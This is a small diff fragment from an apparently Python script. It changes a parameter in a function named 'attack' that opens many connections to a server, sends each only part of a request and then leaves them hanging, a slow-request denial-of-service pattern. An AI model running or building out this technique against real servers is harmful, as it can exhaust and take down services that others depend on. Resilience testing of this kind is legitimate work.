@@ -17,4 +17,4 @@ def attack(host: str, port: int) -> None:
     for cut in CUTS:
         peers.append(connect(host, port))
         peers[-1].sendall(WHOLE[:cut])
-    hung_up(peers, 8)  # the last one for not answering the server's heartbeats
+    hung_up(peers, 20)  # the last one for not answering the server's heartbeats
